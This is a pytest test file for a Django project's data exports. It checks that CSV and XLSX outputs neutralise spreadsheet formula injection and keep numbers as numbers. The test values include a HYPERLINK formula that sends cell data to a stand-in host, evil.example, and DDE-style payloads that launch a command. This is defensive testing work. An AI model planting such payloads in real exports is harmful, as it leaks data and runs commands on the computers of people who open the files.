"""No export of the product hands a spreadsheet a live formula (CSV or formula injection).

Each CSV export writes text starting with = + - @ tab or CR behind an apostrophe; each XLSX
export writes text as string cells (never ``data_type`` "f"); numbers stay numbers.
"""

import csv
import io

import pytest
from django.conf import settings
from django.test import Client
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from tests.accounts.factories import UserFactory
from tests.calls.factories import DecisionFactory
from tests.places.factories import PlaceFactory
from tierslieux.agreements import scdl
from tierslieux.core.exports import FORMULA_STARTS, spreadsheet_safe, workbook_text_only
from tierslieux.territory.exports import csv_text

ATTACK = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
STARTS = [f"{start}cmd|' /C calc'!A0" for start in FORMULA_STARTS]


def _client(user=None) -> Client:
    client = Client()
    client.cookies[settings.LANGUAGE_COOKIE_NAME] = "en"
    if user is not None:
        client.force_login(user)
    return client


@pytest.mark.parametrize("value", [ATTACK, *STARTS])
def test_spreadsheet_safe_neutralises_every_formula_start(value):
    assert spreadsheet_safe(value) == "'" + value


@pytest.mark.parametrize("value", ["Le Tiers-Lieu", "", -0.5, 12, None, "'=already"])
def test_spreadsheet_safe_leaves_the_rest(value):
    assert spreadsheet_safe(value) == value


def test_workbook_text_only_turns_formulas_and_errors_into_text():
    book = Workbook()
    book.active.append([ATTACK, "#N/A", "plain", 3])
    workbook_text_only(book)
    out = io.BytesIO()
    book.save(out)
    cells = load_workbook(io.BytesIO(out.getvalue())).active[1]
    assert [c.data_type for c in cells] == ["s", "s", "s", "n"]
    assert cells[0].value == ATTACK and cells[3].value == 3


# --- the instructors' exports ------------------------------------------------------------


@pytest.fixture
def hostile_application(db):
    return DecisionFactory(application__title=ATTACK).application


@pytest.mark.django_db
def test_applications_xlsx_writes_the_title_as_text(hostile_application):
    instructor = UserFactory(instructor=True)
    response = _client(instructor).get(reverse("calls:applications_export"), {"format": "xlsx"})
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).active
    cells = [c for row in sheet.iter_rows(min_row=2) for c in row if c.value == ATTACK]
    assert cells, "the title is exported"
    assert all(c.data_type == "s" for c in cells)
    assert not [c for row in sheet.iter_rows() for c in row if c.data_type == "f"]


@pytest.mark.django_db
def test_applications_csv_neutralises_the_title(hostile_application):
    instructor = UserFactory(instructor=True)
    response = _client(instructor).get(reverse("calls:applications_export"), {"format": "csv"})
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert [r["Project"] for r in rows] == ["'" + ATTACK]


@pytest.mark.django_db
def test_scdl_csv_neutralises_the_beneficiary_name():
    DecisionFactory(application__organisation__name="@SUM(1+1)*cmd|' /C calc'!A0")
    (row,) = csv.DictReader(io.StringIO(scdl.scdl_csv()))
    assert row["nomBeneficiaire"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert row["montant"] == "30000.00"


# --- public open data ---------------------------------------------------------------------


@pytest.mark.django_db
def test_places_open_data_csv_neutralises_text_and_keeps_negative_numbers():
    PlaceFactory(name=ATTACK, description="-2+3", opening_hours="\t=1")
    response = _client().get(reverse("places:opendata_csv"))
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    (row,) = csv.DictReader(io.StringIO(text))
    assert row["nom"] == "'" + ATTACK
    assert row["description"] == "'-2+3"
    assert row["horaires"] == "'\t=1"
    assert row["longitude"].startswith("-0.5")  # Bordeaux, a number, not neutralised


def test_territory_csv_neutralises_text_and_keeps_negative_numbers():
    text = csv_text(("nom", "lon"), [{"nom": "+33 commune", "lon": -1.25}])
    (row,) = csv.DictReader(io.StringIO(text))
    assert row == {"nom": "'+33 commune", "lon": "-1.25"}


# --- the yearly report ----------------------------------------------------------------------


@pytest.mark.django_db
def test_the_report_workbook_has_no_formula_cell():
    from django.utils import timezone

    from tierslieux.dashboard import report

    PlaceFactory(name=ATTACK)
    content = report.dashboard_content(year=timezone.localdate().year, departement="33")
    book = load_workbook(io.BytesIO(report.report_xlsx(content)))
    for sheet in book.worksheets:
        assert not [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"]
